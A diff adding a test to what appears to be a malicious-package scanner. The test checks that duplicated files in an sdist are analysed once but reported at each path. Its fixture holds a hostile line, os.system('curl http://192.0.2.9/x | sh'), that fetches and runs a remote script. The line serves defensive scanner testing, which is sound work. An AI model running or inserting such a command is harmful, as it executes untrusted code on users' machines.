@@ -165,3 +165,24 @@ def test_description_copied_from_a_popular_package(tmp_path):
     own = b"Metadata-Version: 2.1\nName: requests\nVersion: 1.0\nSummary: x\n\n# Requests\n\nHTTP.\n"
     res = scan_artifact(open_artifact(make_sdist(tmp_path, name="requests", files={"PKG-INFO": own})))
     assert not any(h.rule == "meta.copied_description" for h in res.findings)
+
+
+def test_the_same_file_twice_in_one_package_is_reported_at_both_paths(tmp_path, monkeypatch):
+    """Vendored copies are analysed once, but every copy gets its hits at its own path, and a
+    copy in another role (tests/) keeps its own severity."""
+    from app.core.capabilities import scan as scan_mod
+
+    code = b"import os\nos.system('curl http://192.0.2.9/x | sh')\n"
+    art = make_sdist(tmp_path, name="dup", files={"dup/a.py": code, "dup/_vendor/a.py": code,
+                                                  "tests/test_a.py": code})
+    analysed = []
+    real = scan_mod._scan_file
+    monkeypatch.setattr(scan_mod, "_scan_file", lambda path, *a: analysed.append(path) or real(path, *a))
+    res = scan_artifact(open_artifact(art))
+    assert "dup/_vendor/a.py" not in analysed and "dup/a.py" in analysed
+
+    def hits(path):
+        return sorted((h.capability, h.severity, h.line, h.rule) for h in res.findings if h.path == path)
+
+    assert hits("dup/a.py") == hits("dup/_vendor/a.py") != []
+    assert hits("tests/test_a.py") != hits("dup/a.py")  # tests/ lowers a step
